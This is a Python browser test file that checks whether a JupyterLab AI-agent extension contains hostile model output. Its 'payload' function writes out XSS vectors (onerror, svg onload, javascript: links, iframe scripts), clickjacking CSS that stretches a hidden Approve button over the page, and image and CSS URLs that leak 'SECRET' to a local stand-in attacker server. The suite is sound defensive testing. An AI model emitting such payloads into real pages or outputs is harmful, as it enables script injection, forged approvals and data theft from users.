"""Model output is hostile: in a real JupyterLab, payloads in every part of a run stay in their box.

A scripted model writes style blocks, style attributes, fixed overlays, forms, remote images, CSS
``url()`` and the classic script vectors into its reasoning, answer, todo list, tool arguments,
tool output and permission and clarify prompts. The page must look and behave as before, nothing
may be fetched from the "attacker" (a local HTTP server that records every request), and only a
deliberate click on the visible Approve button approves.

Locally these tests skip when Chromium is missing; under ``CI=true`` they fail instead.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

import tests.browser_lab  # noqa: F401 (skips the module without Chromium)
from benchmarks.b6_lab import open_notebook, run_cells, write_notebook
from tests.server_process import ServerProcess

pytestmark = pytest.mark.browser

pytest.importorskip("playwright.sync_api")

from playwright.sync_api import Error as PlaywrightError  # noqa: E402 (only once it is there)

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63f8cfc0f01f0005000201a1e2d53f0000000049454e44ae426082"
)


class RecordingServer:
    """A local HTTP server that answers every GET with a PNG and remembers each path asked for."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        recorded = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                recorded.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PNG)))
                self.end_headers()
                self.wfile.write(PNG)

            def log_message(self, *_: Any) -> None:
                return

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self.httpd.server_address[1])
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def attacker() -> Iterator[RecordingServer]:
    server = RecordingServer()
    yield server
    server.stop()


@pytest.fixture
def allowed() -> Iterator[RecordingServer]:
    """A host the configuration allows images from (reached as "localhost")."""
    server = RecordingServer()
    yield server
    server.stop()


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[ServerProcess]:
    # Images from "localhost" are allowed; the attacker is reached as 127.0.0.1.
    server = ServerProcess(tmp_path, {"image_hosts": ["localhost"]}, app="jupyterlab")
    yield server
    server.stop()


def payload(port: int, where: str) -> str:
    """HTML and markdown that try to restyle, cover, navigate, script and exfiltrate."""
    evil = f"http://127.0.0.1:{port}/{where}"
    return "\n\n".join(
        [
            # A raw HTML block after a line of text: markdown leaves the CSS alone, and a style
            # element that opened the HTML would be dropped by the HTML parser.
            f"Styled in {where}:\n<style>body, .jp-Notebook {{ background: rgb(255, 0, 0) !important; }} "
            "[data-testid=neta-approve] { position: fixed !important; inset: 0 !important; "
            "opacity: 0 !important; z-index: 99999 !important; } "
            "[data-testid=neta-deny] { visibility: hidden !important; } "
            f"* {{ background-image: url({evil}/css-url) !important; }}</style>",
            f'<div style="position: fixed; inset: 0; z-index: 99998; background: url({evil}/style-attr)">'
            f"overlay in {where}</div>",
            f'<form action="{evil}/form" method="post"><input type="password" name="pw" autofocus>'
            f'<button formaction="{evil}/button">Approve</button></form>',
            f'![secret]({evil}/md-image?d=SECRET) <img src="{evil}/img-onerror" onerror="window.pwned=1">',
            f'<svg onload="window.pwned=1"><image href="{evil}/svg-image"/></svg>',
            f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="{evil}/iframe">'
            "</iframe>",
            f'<object data="{evil}/object"></object><embed src="{evil}/embed">'
            f'<video poster="{evil}/poster"></video><link rel="stylesheet" href="{evil}/link">',
            f'<table background="{evil}/table-bg"><tr><td>cell in {where}</td></tr></table>',
            f'[js](javascript:window.pwned=1) <a href="{evil}/ping" ping="{evil}/ping">ping</a>',
            f'<meta http-equiv="refresh" content="0;url={evil}/meta"><base href="{evil}/base/">',
        ]
    )


def hostile_script(path: Path, port: int, allowed_port: int) -> None:
    """One reply with every payload, ending in a `python` call that asks permission; then done."""
    allowed = f"![allowed](http://localhost:{allowed_port}/allowed.png)"
    first = {
        "reasoning": payload(port, "reasoning"),
        "text": payload(port, "answer") + "\n\n" + allowed + "\n",
        "toolCalls": [
            {
                "name": "todo",
                "arguments": {"items": [{"content": payload(port, "todo"), "status": "pending"}]},
            },
            {"name": "read_file", "arguments": {"path": "hostile.md"}},
            {
                "name": "python",
                "arguments": {"code": "print(6 * 7)\n# " + payload(port, "args")},
            },
        ],
    }
    done = {"text": "Finished. " + payload(port, "final")}
    path.write_text(json.dumps({"turns": [first, done]}))


def asking_script(path: Path, port: int) -> None:
    """A run that only asks permission for `python` (the other run on the page)."""
    first = {
        "text": "Let me compute.",
        "toolCalls": [{"name": "python", "arguments": {"code": "1"}}],
    }
    path.write_text(json.dumps({"turns": [first, {"text": "done"}]}))


def clarify_script(path: Path, port: int) -> None:
    question = payload(port, "question")
    first = {
        "toolCalls": [
            {"name": "clarify", "arguments": {"question": question, "options": [question, "b"]}}
        ]
    }
    path.write_text(json.dumps({"turns": [first, {"text": "Answered."}]}))


def run_view(page: Any, index: int) -> Any:
    return page.locator("[data-testid=neta-run]").nth(index)


def wait_status(page: Any, index: int, status: str, timeout: float = 90_000) -> None:
    page.wait_for_function(
        "([i, s]) => document.querySelectorAll('[data-testid=neta-run]')[i]?.dataset.status === s",
        arg=[index, status],
        timeout=timeout,
    )


def wait_armed(button: Any) -> None:
    """Bring the button into view and wait until it answers clicks (a prompt arms after a moment
    in view; JupyterLab may re-create a view meanwhile, so the locator is found again each time)."""
    deadline = time.monotonic() + 30
    while True:
        try:
            button.wait_for(state="visible")
            button.scroll_into_view_if_needed()
            if button.get_attribute("data-armed") == "true":
                return
        except PlaywrightError:
            pass  # detached while looked at: a view being re-created

        assert time.monotonic() < deadline, "the prompt's buttons never armed"
        time.sleep(0.05)


PAGE_LOOK = """(index) => {
  const run = document.querySelectorAll('[data-testid=neta-run]')[index];
  const box = run.getBoundingClientRect();
  const buttons = [...run.querySelectorAll('.neta-prompt-buttons button')].map((b) => {
    const r = b.getBoundingClientRect();
    const s = getComputedStyle(b);
    return [b.dataset.testid, r.left - box.left, r.top - box.top, r.width, r.height,
            s.display, s.visibility, s.opacity, s.position];
  });
  const bg = (el) => getComputedStyle(el).backgroundColor + ' ' + getComputedStyle(el).backgroundImage;
  return {
    body: bg(document.body),
    notebook: bg(document.querySelector('.jp-Notebook')),
    buttons,
    pwned: window.pwned === undefined ? null : String(window.pwned),
    url: location.pathname,
  };
}"""

FOREIGN = (
    "style, form, input, button:not(.neta-button), select, iframe, object, embed, svg, video, "
    "link, meta, base, [style]:not(.neta-progress-bar), a[href^='javascript'], [ping]"
)


def notebook(lab: ServerProcess, name: str, tmp: Path, port: int, allowed: int, *runs: str) -> None:
    """The extension loaded, one `%neta` cell per run (each in its own session), then a tall cell
    (room to scroll a run out of view)."""
    scripts = {"asking": asking_script, "clarify": clarify_script}
    cells = ["%load_ext neta_jupyter"]
    for run in runs:
        path = tmp / f"{run}.json"
        if run == "hostile":
            hostile_script(path, port, allowed)
        else:
            scripts[run](path, port)
        cells.append(f"%neta --model scripted:{path} --session {run} the {run} run")
    write_notebook(lab.root / name, *cells, "\n".join(f"# line {i}" for i in range(80)))
    (lab.root / "hostile.md").write_text(payload(port, "file"))


def look(page: Any, index: int) -> dict[str, Any]:
    """The page's background and run `index`'s prompt buttons (in view and armed: as shown)."""
    run = run_view(page, index)
    run.scroll_into_view_if_needed()
    approve = run.locator("[data-testid=neta-approve]")
    if approve.count():
        wait_armed(approve)
    return dict(page.evaluate(PAGE_LOOK, index))


def foreign_elements(page: Any) -> list[str]:
    return list(
        page.evaluate(
            """(selector) => [...document.querySelectorAll('[data-testid=neta-run]')]
                .flatMap((run) => [...run.querySelectorAll(selector)])
                .map((e) => e.outerHTML.slice(0, 120))""",
            FOREIGN,
        )
    )


def escaped_positions(page: Any) -> list[str]:
    """Elements in the runs laid out outside the normal flow (fixed or absolute)."""
    return list(
        page.evaluate(
            """() => [...document.querySelectorAll('[data-testid=neta-run] *')]
                .filter((e) => ['fixed', 'absolute'].includes(getComputedStyle(e).position))
                .map((e) => e.outerHTML.slice(0, 120))"""
        )
    )


def topmost_is_itself(page: Any, selector: str) -> bool:
    return bool(
        page.evaluate(
            """(selector) => {
              const b = document.querySelector(selector);
              b.scrollIntoView({ block: 'center' });
              const r = b.getBoundingClientRect();
              const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
              return b === hit || b.contains(hit);
            }""",
            selector,
        )
    )


def settle_then_paths(server: RecordingServer, seconds: float = 2.0) -> list[str]:
    """What the server was asked for, after giving the page time to ask (a safety wait)."""
    time.sleep(seconds)
    return list(server.paths)


def test_hostile_output_changes_nothing_outside_its_box_and_loads_nothing(
    lab: ServerProcess,
    browser: Any,
    attacker: RecordingServer,
    allowed: RecordingServer,
    tmp_path: Path,
) -> None:
    notebook(
        lab, "hostile.ipynb", tmp_path, attacker.port, allowed.port, "asking", "hostile", "clarify"
    )
    lab.start()
    page = open_notebook(browser, lab, "hostile.ipynb")
    run_cells(page, 2)
    page.wait_for_selector("[data-testid=neta-approve]:visible", timeout=90_000)
    wait_armed(run_view(page, 0).locator("[data-testid=neta-approve]"))
    before = look(page, 0)
    assert before["buttons"] and before["pwned"] is None

    # The hostile run and the clarify run render below the first one.
    for _ in range(2):
        page.keyboard.press("Shift+Enter")
    wait_status(page, 1, "suspended")
    wait_status(page, 2, "suspended")
    hostile = run_view(page, 1)
    hostile.locator("[data-testid=neta-permission]").wait_for(state="visible")
    page.wait_for_function("document.querySelectorAll('[data-testid=neta-clarify-option]').length")
    shown = {
        "reasoning": "[data-testid=neta-reasoning]",
        "todo": "[data-testid=neta-todo]",
        "file": "[data-tool-name=read_file] [data-testid=neta-tool-output]",
        "args": "[data-testid=neta-tool-card][data-tool-name=python]",
        "answer": "[data-testid=neta-answer]",
    }
    for where, selector in shown.items():
        text = hostile.locator(selector).first.text_content() or ""
        assert f"overlay in {where}" in text, where
    assert "overlay in args" in hostile.locator("[data-testid=neta-permission]").inner_text()

    # Nothing outside the runs' boxes changed: the page, and the first run's buttons.
    after = look(page, 0)
    assert after == before
    assert topmost_is_itself(page, "[data-testid=neta-run] [data-testid=neta-approve]")
    assert topmost_is_itself(page, "[data-testid=neta-run] [data-testid=neta-deny]")
    assert foreign_elements(page) == []
    assert escaped_positions(page) == []

    # Remote images are placeholders; the allowed host's image loaded; the attacker heard nothing.
    placeholders = hostile.locator("[data-testid=neta-answer] .neta-image-placeholder")
    assert placeholders.count() >= 2
    allowed_image = hostile.locator(f"img[src='http://localhost:{allowed.port}/allowed.png']")
    allowed_image.wait_for(state="attached")
    deadline = time.monotonic() + 30
    while not allowed.paths:
        assert time.monotonic() < deadline, "the image of an allowed host never loaded"
        time.sleep(0.1)
    assert settle_then_paths(attacker) == []

    # The clarify run shows its question as text and is answered with an option.
    clarify = run_view(page, 2)
    clarify.scroll_into_view_if_needed()
    assert "overlay in question" in (
        clarify.locator("[data-testid=neta-clarify]").text_content() or ""
    )
    option = clarify.locator("[data-testid=neta-clarify-option]", has_text="b").last
    wait_armed(option)
    option.click()
    wait_status(page, 2, "completed")

    # A deliberate click on the first run's visible Approve approves.
    first_approve = run_view(page, 0).locator("[data-testid=neta-approve]")
    wait_armed(first_approve)
    first_approve.click()
    wait_status(page, 0, "completed")
    assert look(page, 1)["pwned"] is None
    assert settle_then_paths(attacker, 1.0) == []

    # A remote image loads when the user asks for it (and only then does the attacker hear of it).
    placeholders.first.scroll_into_view_if_needed()
    placeholders.first.click()
    deadline = time.monotonic() + 30
    while not attacker.paths:
        assert time.monotonic() < deadline, "clicking the placeholder did not load the image"
        time.sleep(0.1)
    assert attacker.paths == ["/answer/md-image?d=SECRET"]


ARMING_LOG = """(selector) => {
  const button = document.querySelector(selector);
  window.__armedAt = [];
  new MutationObserver(() => window.__armedAt.push([button.dataset.armed, performance.now()]))
    .observe(button, { attributes: true, attributeFilter: ['data-armed'] });
}"""

SCROLL_AWAY = """(selector) => {
  // Scroll the notebook until the prompt's buttons are just above its top edge.
  const row = document.querySelector(selector).parentElement;
  let scroller = row.parentElement;
  const scrolls = (e) => /(auto|scroll)/.test(getComputedStyle(e).overflowY) && e.scrollHeight > e.clientHeight;
  while (scroller && !scrolls(scroller)) {
    scroller = scroller.parentElement;
  }
  const by = row.getBoundingClientRect().bottom - scroller.getBoundingClientRect().top + 20;
  scroller.scrollTop += by;
  return [scroller.className, by, row.getBoundingClientRect().bottom, scroller.getBoundingClientRect().top];
}"""

COVERED_POINTS = """(s) => {
  const mid = (e) => { const r = e.getBoundingClientRect(); return [r.left + r.width / 2, r.top + r.height / 2]; };
  const run = document.querySelector(s).closest('[data-testid=neta-run]');
  const row = run.querySelector('.neta-permission .neta-prompt-buttons').getBoundingClientRect();
  const text = run.querySelector('[data-testid=neta-answer] p').getBoundingClientRect();
  const r = document.querySelector(s).getBoundingClientRect();
  const [left, top] = [Math.max(r.left, 0), Math.max(r.top, 0)];
  const [right, bottom] = [Math.min(r.right, innerWidth), Math.min(r.bottom, innerHeight)];
  return [
    mid(run.querySelector('[data-testid=neta-deny]')),  // Deny, under the stretched button
    [row.right - 20, row.top + row.height / 2],          // empty space beside the buttons
    [text.left + 10, text.top + text.height / 2],        // the answer's text
    // Far points of what the stretched button covers (the bottom right holds JupyterLab's toasts).
    [left + 15, top + 15],
    [right - 15, (top + bottom) / 2],
  ];
}"""

COVER = """([selector, css]) => {
  const style = document.createElement('style');
  style.id = 'test-cover';
  style.textContent = css;
  document.head.append(style);
}"""


def still_waiting(page: Any, run: Any) -> None:
    """The run is still suspended on its permission prompt (after time for a decision to land)."""
    time.sleep(1.5)
    assert run.get_attribute("data-status") == "suspended"
    assert run.locator("[data-testid=neta-permission]").is_visible()


def click_at(page: Any, x: float, y: float) -> None:
    page.mouse.click(x, y)


def centre(locator: Any) -> tuple[float, float]:
    box = locator.bounding_box()
    assert box is not None
    return box["x"] + box["width"] / 2, box["y"] + box["height"] / 2


def test_only_a_deliberate_click_on_the_visible_approve_button_approves(
    lab: ServerProcess,
    browser: Any,
    attacker: RecordingServer,
    allowed: RecordingServer,
    tmp_path: Path,
) -> None:
    notebook(lab, "clicks.ipynb", tmp_path, attacker.port, allowed.port, "hostile")
    lab.start()
    page = open_notebook(browser, lab, "clicks.ipynb")
    run_cells(page, 2)
    wait_status(page, 0, "suspended")
    run = run_view(page, 0)
    approve = run.locator("[data-testid=neta-approve]")
    deny = run.locator("[data-testid=neta-deny]")
    approve.wait_for(state="visible")
    selector = "[data-testid=neta-run] [data-testid=neta-approve]"

    # A click while the buttons are still arming: scrolled out of view and back, then clicked at once.
    wait_armed(approve)
    page.evaluate(ARMING_LOG, selector)
    moved = page.evaluate(SCROLL_AWAY, selector)
    assert moved[2] < moved[3], moved
    page.wait_for_function("window.__armedAt.some(([armed]) => armed === 'false')")
    approve.click(force=True)
    clicked_by = page.evaluate("performance.now()")
    rearmed = page.evaluate("window.__armedAt.filter(([a]) => a === 'true').map(([, t]) => t)")
    assert all(at > clicked_by for at in rearmed), "the click came after the buttons armed again"
    still_waiting(page, run)

    # Empty space, the answer's text and Deny, while a covering element is there: the Approve
    # button itself stretched over the whole window, transparent (as page CSS could do).
    page.evaluate("(s) => document.querySelector(s).scrollIntoView({ block: 'center' })", selector)
    wait_armed(approve)
    page.evaluate(
        COVER,
        [
            selector,
            "[data-testid=neta-approve] { position: fixed !important; inset: 0 !important; "
            "opacity: 0 !important; z-index: 99999 !important; }",
        ],
    )
    page.evaluate("() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))")
    points = page.evaluate(COVERED_POINTS, selector)
    for x, y in points:
        assert (
            page.evaluate("([x, y]) => document.elementFromPoint(x, y)?.dataset.testid", [x, y])
            == "neta-approve"
        )
        assert approve.get_attribute("data-armed") == "true"
        click_at(page, x, y)
    still_waiting(page, run)

    # Covered by a transparent element: a click where the button shows does not reach it.
    page.evaluate("document.getElementById('test-cover').remove()")
    page.evaluate(
        COVER,
        [
            selector,
            "body::after { content: ''; position: fixed; inset: 0; z-index: 99999; opacity: 0; }",
        ],
    )
    click_at(page, *centre(approve))
    page.evaluate("document.getElementById('test-cover').remove()")
    still_waiting(page, run)

    # Deny itself denies: the code never runs.
    wait_armed(deny)
    deny.click()
    wait_status(page, 0, "completed")
    python = run.locator("[data-testid=neta-tool-card][data-tool-name=python]")
    assert python.get_attribute("data-status") == "failed"
    assert "Finished." in run.locator("[data-testid=neta-answer]").inner_text()
    assert "42" not in (page.locator(".jp-OutputArea").first.text_content() or "")
    assert attacker.paths == []
